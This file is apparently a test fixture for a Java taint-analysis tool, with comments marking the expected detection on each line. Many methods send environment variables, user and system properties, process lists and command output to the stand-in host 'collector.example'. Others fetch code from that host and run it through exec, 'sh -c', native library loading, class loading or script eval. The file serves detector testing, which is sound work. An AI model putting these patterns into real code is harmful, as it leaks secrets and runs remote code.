// java.lang and java.lang.reflect: strings, the system, processes, threads, class loading.
package app;

import java.io.*;
import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLClassLoader;
import java.util.*;
import javax.script.*;
import org.springframework.web.client.RestTemplate;

class Lang {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void made() {
        String text = new String(System.getenv("T")); //~ source(ENVIRONMENT) f1
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f1, finding(traced) f1
    }

    void all() {
        rest.postForObject(U, System.getenv().keySet(), String.class); //~ source(ENVIRONMENT) f1b, sink(egress.http) f1b, finding(traced) f1b
    }

    void valued() {
        rest.postForObject(U, String.valueOf(System.getenv("T")).trim(), String.class); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
    }

    void formatted() {
        String text = String.format("t=%s", System.getenv("T")); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f3, finding(traced) f3
    }

    void hex() {
        rest.postForObject(U, Integer.toHexString(System.getenv("T").charAt(0)), String.class); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
    }

    void parsed() {
        rest.postForObject(U, Integer.parseInt(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
    }

    void cut() {
        rest.postForObject(U, System.getenv("T").substring(1).split(","), String.class); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6
    }

    void joined() {
        rest.postForObject(U, "t=".concat(System.getenv("T")).toCharArray(), String.class); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7
    }

    void bytes() {
        rest.postForObject(U, System.getenv("T").getBytes(), String.class); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
    }

    void into() {
        char[] buffer = new char[4];
        System.getenv("T").getChars(0, 4, buffer, 0); //~ source(ENVIRONMENT) f9
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f9, finding(traced) f9
    }

    void textConstants() {
        rest.postForObject(U, new String("a"), String.class); //~ ok
        rest.postForObject(U, String.valueOf(1), String.class); //~ ok
        rest.postForObject(U, String.format("%d", 1), String.class); //~ ok
        rest.postForObject(U, Integer.toHexString(1), String.class); //~ ok
        rest.postForObject(U, Character.forDigit(System.getenv("T").charAt(0), 16), String.class); //~ source(ENVIRONMENT) f90, sink(egress.http) f90, finding(traced) f90
        rest.postForObject(U, Character.forDigit(1, 16), String.class); //~ ok
        rest.postForObject(U, Integer.parseInt("1"), String.class); //~ ok
        rest.postForObject(U, "ab".substring(1).split(","), String.class); //~ ok
        rest.postForObject(U, "a".concat("b").toCharArray(), String.class); //~ ok
        rest.postForObject(U, "a".getBytes(), String.class); //~ ok
        char[] buffer = new char[4];
        "abcd".getChars(0, 4, buffer, 0); //~ ok
        rest.postForObject(U, buffer, String.class); //~ ok
    }

    void compared() {
        rest.postForObject(U, System.getenv("T").indexOf("x"), String.class); //~ ok
        rest.postForObject(U, System.getenv("T").startsWith("x"), String.class); //~ ok
    }

    void untyped() {
        rest.postForObject(U, Optional.of(System.getenv("T")).get().toString(), String.class); //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10
        rest.postForObject(U, Optional.of("x").get().toString(), String.class); //~ ok
    }

    void untypedBytes() {
        rest.postForObject(U, Optional.of(System.getenv("T")).get().getBytes(), String.class); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11
        rest.postForObject(U, Optional.of("x").get().getBytes(), String.class); //~ ok
    }

    void built() {
        StringBuilder text = new StringBuilder(System.getenv("T")); //~ source(ENVIRONMENT) f12
        rest.postForObject(U, text.toString().trim(), String.class); //~ sink(egress.http) f12, finding(traced) f12
    }

    void builtOn() {
        StringBuilder text = new StringBuilder();
        text.append("t=").append(System.getenv("T")); //~ source(ENVIRONMENT) f13
        rest.postForObject(U, text.reverse().toString(), String.class); //~ sink(egress.http) f13, finding(traced) f13
    }

    void builtPart() {
        StringBuilder text = new StringBuilder();
        text.append(System.getenv("T")); //~ source(ENVIRONMENT) f14
        rest.postForObject(U, text.charAt(0), String.class); //~ sink(egress.http) f14, finding(traced) f14
        rest.postForObject(U, text.indexOf("x"), String.class); //~ ok
    }

    void builtConstants() {
        StringBuilder text = new StringBuilder("a"); //~ ok
        text.append("b"); //~ ok
        rest.postForObject(U, text.reverse().toString(), String.class); //~ ok
        rest.postForObject(U, text.charAt(0), String.class); //~ ok
    }

    void joiner() {
        StringJoiner text = new StringJoiner(System.getenv("T")); //~ source(ENVIRONMENT) f15
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f15, finding(traced) f15
    }

    void joinerAdded() {
        StringJoiner text = new StringJoiner(",");
        text.add("a").add(System.getenv("V")); //~ source(ENVIRONMENT) f16
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f16, finding(traced) f16
    }

    void joinerConstants() {
        rest.postForObject(U, new StringJoiner(",").add("a"), String.class); //~ ok
    }

    void input() {
        rest.postForObject(U, new BufferedReader(new InputStreamReader(System.in)).readLine(), String.class); //~ source(INPUT) f17, sink(egress.http) f17, finding(traced) f17
    }

    void inputFromConsole() {
        rest.postForObject(U, System.console().readLine(), String.class); //~ source(INPUT) f18, sink(egress.http) f18, finding(traced) f18
    }

    void inputNone() {
        System.in.close(); //~ ok
        rest.postForObject(U, System.console() == null, String.class); //~ ok
    }

    void environment() {
        String text = System.getenv("T"); //~ source(ENVIRONMENT) f19, capability(ENVIRONMENT)
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f19, finding(traced) f19
        rest.postForObject(U, System.getenv("T").isEmpty(), String.class); //~ ok
    }

    void environmentText() {
        rest.postForObject(U, System.getenv("T").codePointAt(0), String.class); //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20
    }

    void machine() {
        rest.postForObject(U, System.getProperty("os.name"), String.class); //~ source(DEVICE) f21, sink(egress.http) f21, finding(traced) f21, capability(DEVICE)
    }

    void user() {
        rest.postForObject(U, System.getProperty("user.name"), String.class); //~ source(USER) f22, sink(egress.http) f22, finding(traced) f22, capability(DEVICE)
    }

    void property() {
        rest.postForObject(U, System.getProperty("app.name", System.getenv("T")), String.class); //~ source(ENVIRONMENT) f23, sink(egress.http) f23, finding(traced) f23
        rest.postForObject(U, System.getProperty("app.name"), String.class); //~ ok
    }

    void copied() {
        char[] buffer = new char[4];
        System.arraycopy(System.getenv("T").toCharArray(), 0, buffer, 0, 4); //~ source(ENVIRONMENT) f24
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f24, finding(traced) f24
    }

    void copiedConstants() {
        char[] buffer = new char[4];
        System.arraycopy("abcd".toCharArray(), 0, buffer, 0, 4); //~ ok
        rest.postForObject(U, buffer, String.class); //~ ok
        rest.postForObject(U, System.identityHashCode(System.getenv("T")), String.class); //~ ok
    }

    void library() {
        System.load(rest.getForObject(U, String.class)); //~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25, capability(NATIVE)
        System.load("/lib/x.so"); //~ ok
    }

    void libraryOfRuntime() {
        Runtime.getRuntime().load(rest.getForObject(U, String.class)); //~ source(NETWORK) f26, sink(exec.load) f26, finding(traced) f26, capability(NATIVE)
        Runtime.getRuntime().load("/lib/x.so"); //~ ok
    }

    void processors() {
        rest.postForObject(U, Runtime.getRuntime().availableProcessors(), String.class); //~ source(DEVICE) f27, sink(egress.http) f27, finding(traced) f27, capability(DEVICE)
        rest.postForObject(U, Runtime.getRuntime().availableProcessors() > 1, String.class); //~ ok
    }

    void command() {
        Runtime.getRuntime().exec(rest.getForObject(U, String.class)); //~ source(NETWORK) f28, sink(exec.command) f28, finding(traced) f28, capability(EXEC)
    }

    void commandOutput() {
        Process process = Runtime.getRuntime().exec("id"); //~ source(COMMAND_OUTPUT) f29
        rest.postForObject(U, process.getInputStream().readAllBytes(), String.class); //~ sink(egress.http) f29, finding(traced) f29
    }

    void commandConstants() {
        Process process = Runtime.getRuntime().exec("id"); //~ ok
        rest.postForObject(U, process.waitFor(), String.class); //~ ok
        rest.postForObject(U, process.getInputStream().available(), String.class); //~ ok
    }

    void builder() {
        ProcessBuilder builder = new ProcessBuilder("sh", "-c", rest.getForObject(U, String.class)); //~ source(NETWORK) f30
        builder.redirectErrorStream(true).start(); //~ sink(exec.command) f30, finding(traced) f30, capability(EXEC)
    }

    void builderOutput() {
        Process process = new ProcessBuilder("id").start(); //~ source(COMMAND_OUTPUT) f31
        rest.postForObject(U, process.inputReader().readLine(), String.class); //~ sink(egress.http) f31, finding(traced) f31
    }

    void builderLater() {
        ProcessBuilder builder = new ProcessBuilder();
        builder.command(rest.getForObject(U, String.class)).inheritIO().start(); //~ source(NETWORK) f32, sink(exec.command) f32, finding(traced) f32
    }

    void builderEnvironment() {
        ProcessBuilder builder = new ProcessBuilder("sh");
        builder.environment().put("X", rest.getForObject(U, String.class)); //~ source(NETWORK) f33
        builder.start(); //~ sink(exec.command) f33, finding(traced) f33
    }

    void builderToFile() {
        File file = new File("/tmp/jm-out");
        new ProcessBuilder("id").redirectOutput(file).start(); //~ source(COMMAND_OUTPUT) f34
        FileInputStream in = new FileInputStream(file); //~ source(FILE) f35
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f34, finding(traced) f34, sink(egress.http) f35, finding(traced) f35
    }

    void builderConstants() {
        ProcessBuilder builder = new ProcessBuilder("sh"); //~ ok
        builder.command("sh", "-c", "id"); //~ ok
        builder.environment().put("X", "y"); //~ ok
        builder.redirectErrorStream(true).redirectOutput(new File("/tmp/jm-none")).start(); //~ ok
        rest.postForObject(U, builder.start().inputReader().ready(), String.class); //~ ok
    }

    void typedInto() {
        Process process = Runtime.getRuntime().exec("sh");
        process.getOutputStream().write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f36, sink(exec.command) f36, finding(traced) f36
        process.getOutputStream().write(1); //~ ok
    }

    void typedIntoWriter() {
        Process process = Runtime.getRuntime().exec("sh");
        process.outputWriter().write(rest.getForObject(U, String.class)); //~ source(NETWORK) f37, sink(exec.command) f37, finding(traced) f37
        process.outputWriter().write("exit"); //~ ok
    }

    void processes() {
        rest.postForObject(U, ProcessHandle.allProcesses(), String.class); //~ source(PROCESS) f38, sink(egress.http) f38, finding(traced) f38, capability(PROCESSES)
        rest.postForObject(U, ProcessHandle.allProcesses() == null, String.class); //~ ok
    }

    void thread() {
        String text = System.getenv("T"); //~ source(ENVIRONMENT) f39
        new Thread(() -> rest.postForObject(U, text, String.class)).start(); //~ sink(egress.http) f39, finding(traced) f39
        new Thread(() -> rest.postForObject(U, "x", String.class)).start(); //~ ok
    }

    void local() {
        ThreadLocal<String> local = new ThreadLocal<>();
        local.set(System.getenv("T")); //~ source(ENVIRONMENT) f40
        rest.postForObject(U, local.get(), String.class); //~ sink(egress.http) f40, finding(traced) f40
    }

    void localConstant() {
        ThreadLocal<String> local = new ThreadLocal<>();
        local.set("a"); //~ ok
        rest.postForObject(U, local.get(), String.class); //~ ok
    }

    void thrown() {
        Exception error = new Exception(System.getenv("T")); //~ source(ENVIRONMENT) f41
        rest.postForObject(U, error.getMessage(), String.class); //~ sink(egress.http) f41, finding(traced) f41
        rest.postForObject(U, new Exception("x").getMessage(), String.class); //~ ok
    }

    void named() {
        Class.forName(rest.getForObject(U, String.class)).getMethod("run").invoke(null); //~ source(NETWORK) f42, sink(exec.load) f42, finding(traced) f42, capability(DYNAMIC_CODE)
    }

    void loaded(ClassLoader loader) {
        loader.loadClass(rest.getForObject(U, String.class)); //~ source(NETWORK) f43, sink(exec.load) f43, finding(traced) f43, capability(DYNAMIC_CODE)
    }

    void defined(ClassLoader loader) {
        loader.defineClass("x", rest.getForObject(U, byte[].class), 0, 1); //~ source(NETWORK) f44, sink(exec.load) f44, finding(traced) f44, capability(DYNAMIC_CODE)
    }

    void definedElsewhere(Map map) {
        map.get("u").defineClass("x", rest.getForObject(U, byte[].class), 0, 1); //~ source(NETWORK) f45, sink(exec.load) f45, finding(traced) f45, capability(DYNAMIC_CODE)
    }

    void loadedFrom() {
        new URLClassLoader(new URL[] {new URL(rest.getForObject(U, String.class))}); //~ source(NETWORK) f46, sink(exec.load) f46, finding(traced) f46, capability(DYNAMIC_CODE)
    }

    void called(Class<?> type) {
        type.getMethod("run"); //~ capability(DYNAMIC_CODE)
    }

    void calledBack(Method method) {
        rest.postForObject(U, method.invoke(null, System.getenv("T")), String.class); //~ source(ENVIRONMENT) f48, sink(egress.http) f48, finding(traced) f48, capability(DYNAMIC_CODE)
    }

    void loadedConstants(ClassLoader loader, Map map) {
        Class.forName("app.Lang").getMethod("run").invoke(null); //~ ok
        loader.loadClass("app.Lang"); //~ ok
        loader.defineClass("x", new byte[1], 0, 1); //~ ok
        map.get("u").defineClass("x", new byte[1], 0, 1); //~ ok
        new URLClassLoader(new URL[] {new URL("file:///x.jar")}); //~ ok
        rest.postForObject(U, Lang.class.getResourceAsStream("/x") == null, String.class); //~ ok
    }

    void resource(Class<?> type) {
        InputStream in = type.getResourceAsStream("/x"); //~ source(FILE) f49, capability(FILES)
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f49, finding(traced) f49
    }

    void script() {
        ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");
        engine.eval(rest.getForObject(U, String.class)); //~ source(NETWORK) f50, sink(exec.code) f50, finding(traced) f50, capability(DYNAMIC_CODE)
    }

    void scriptMade() {
        new ScriptEngineManager().getEngineByName("js"); //~ capability(DYNAMIC_CODE)
    }

    void scriptGiven(ScriptEngine engine) {
        engine.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f51
        rest.postForObject(U, engine, String.class); //~ sink(egress.http) f51, finding(traced) f51
    }

    void scriptConstants(ScriptEngine engine) {
        engine.put("t", "x"); //~ ok
        rest.postForObject(U, engine, String.class); //~ ok
        new ScriptEngineManager().getEngineByName("js").eval("1"); //~ ok
    }
}

class Task implements Runnable {
    public void run() {
        Lang.rest.postForObject(Lang.U, System.getProperty("os.arch"), String.class); //~ source(DEVICE) f52, sink(egress.http) f52, finding(traced) f52
    }
}
